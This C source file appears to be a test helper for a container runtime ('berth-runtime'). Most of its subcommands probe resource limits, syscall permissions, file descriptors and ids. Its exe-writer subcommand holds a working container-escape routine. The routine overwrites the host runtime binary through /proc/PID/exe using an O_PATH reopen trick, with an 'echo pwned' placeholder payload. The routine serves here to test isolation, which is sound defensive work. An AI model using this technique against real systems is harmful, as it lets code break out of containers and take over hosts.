/* testinit: a static helper placed in test root file systems. Each subcommand
 * probes one thing the tests check and prints a plain result line.
 *
 *   testinit alloc MB        touch MB megabytes, print "allocated MB"
 *   testinit forks N         try to fork N sleepers, print "forked K errno E"
 *   testinit mkdir PATH      print "ok" or "errno E"
 *   testinit syscall NAME    unshare|mount|keyctl|personality: print "ok" or "errno E"
 *   testinit fds             print each open fd >= 3 and its target
 *   testinit cwd             print the working directory
 *   testinit ids             print "uid U gid G groups a,b"
 *   testinit exe-writer SECS for SECS seconds try to open every /proc/PID/exe
 *                            of other processes for writing; print "wrote PID"
 *                            on success or "none" at the end
 *   testinit pause           sleep until killed
 *   testinit write PATH      print "ok" or "errno E" for creating PATH
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int report(int r)
{
	if (r < 0)
		printf("errno %d\n", errno);
	else
		printf("ok\n");
	return 0;
}

static int cmd_alloc(long mb)
{
	size_t len = (size_t)mb << 20;
	char *p = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED) {
		printf("errno %d\n", errno);
		return 1;
	}
	for (size_t i = 0; i < len; i += 4096)
		p[i] = 1;
	printf("allocated %ld\n", mb);
	return 0;
}

static int cmd_forks(int n)
{
	int ok = 0, err = 0;
	pid_t kids[4096];
	for (int i = 0; i < n && i < 4096; i++) {
		pid_t p = fork();
		if (p == 0) {
			sleep(30);
			_exit(0);
		}
		if (p < 0) {
			err = errno;
			break;
		}
		kids[ok++] = p;
	}
	printf("forked %d errno %d\n", ok, err);
	fflush(stdout);
	for (int i = 0; i < ok; i++) {
		kill(kids[i], SIGKILL);
		waitpid(kids[i], NULL, 0);
	}
	return 0;
}

static int cmd_syscall(const char *name)
{
	if (strcmp(name, "unshare") == 0)
		return report(unshare(CLONE_NEWUSER));
	if (strcmp(name, "mount") == 0)
		return report(mount("none", "/tmp", "tmpfs", 0, NULL));
	if (strcmp(name, "keyctl") == 0)
		return report((int)syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0));
	if (strcmp(name, "personality") == 0)
		return report(personality(0xffffffff));
	if (strcmp(name, "getpid") == 0)
		return report((int)syscall(SYS_getpid));
	printf("unknown syscall %s\n", name);
	return 2;
}

static int cmd_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *de;
	if (!d) {
		printf("errno %d\n", errno);
		return 1;
	}
	while ((de = readdir(d))) {
		char path[PATH_MAX], target[PATH_MAX];
		int fd = atoi(de->d_name);
		if (de->d_name[0] == '.' || fd < 3 || fd == dirfd(d))
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		ssize_t n = readlink(path, target, sizeof(target) - 1);
		target[n > 0 ? n : 0] = '\0';
		printf("fd %d %s\n", fd, target);
	}
	closedir(d);
	printf("end\n");
	return 0;
}

static int cmd_ids(void)
{
	gid_t groups[64];
	int n = getgroups(64, groups);
	printf("uid %u gid %u groups ", getuid(), getgid());
	for (int i = 0; i < n; i++)
		printf("%s%u", i ? "," : "", groups[i]);
	printf("\n");
	return 0;
}

/* Is pid running the container runtime? Only that binary matters here: the
 * container may of course write its own files, and other processes' binaries
 * are not the runtime. */
static int is_runtime(int pid)
{
	char path[64], target[PATH_MAX];
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	ssize_t n = readlink(path, target, sizeof(target) - 1);
	if (n <= 0)
		return 0;
	target[n] = '\0';
	return strstr(target, "berth-runtime") != NULL;
}

static int try_write(int fd, int pid)
{
	static const char junk[] = "#!/bin/sh\necho pwned\n";
	if (write(fd, junk, sizeof(junk) - 1) > 0) {
		printf("wrote %d\n", pid);
		return 1;
	}
	close(fd);
	return 0;
}

static int cmd_exe_writer(int secs)
{
	time_t end = time(NULL) + secs;
	pid_t self = getpid();
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		while (d && (de = readdir(d))) {
			int pid = atoi(de->d_name);
			char path[64];
			if (pid <= 0 || pid == self || !is_runtime(pid))
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0 && try_write(fd, pid))
				return 0;
			/* The trick of the original exploit: an O_PATH handle, reopened for
			 * writing once the runtime has exited and the file is no longer busy. */
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd >= 0) {
				char again[64];
				snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
				for (int i = 0; i < 200; i++) {
					int w = open(again, O_WRONLY | O_CLOEXEC);
					if (w >= 0 && try_write(w, pid))
						return 0;
					if (w < 0 && errno != ETXTBSY)
						break;
					usleep(1000);
				}
				close(fd);
			}
		}
		if (d)
			closedir(d);
	}
	printf("none\n");
	return 0;
}

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";
	const char *arg = argc > 2 ? argv[2] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(cmd, "alloc") == 0)
		return cmd_alloc(atol(arg));
	if (strcmp(cmd, "forks") == 0)
		return cmd_forks(atoi(arg));
	if (strcmp(cmd, "mkdir") == 0)
		return report(mkdir(arg, 0755));
	if (strcmp(cmd, "write") == 0)
		return report(open(arg, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	if (strcmp(cmd, "syscall") == 0)
		return cmd_syscall(arg);
	if (strcmp(cmd, "fds") == 0)
		return cmd_fds();
	if (strcmp(cmd, "cwd") == 0) {
		char buf[PATH_MAX];
		printf("%s\n", getcwd(buf, sizeof(buf)) ? buf : "unreachable");
		return 0;
	}
	if (strcmp(cmd, "ids") == 0)
		return cmd_ids();
	if (strcmp(cmd, "exe-writer") == 0)
		return cmd_exe_writer(atoi(arg));
	if (strcmp(cmd, "pause") == 0) {
		for (;;)
			pause();
	}
	fprintf(stderr, "testinit: unknown command '%s'\n", cmd);
	return 2;
}
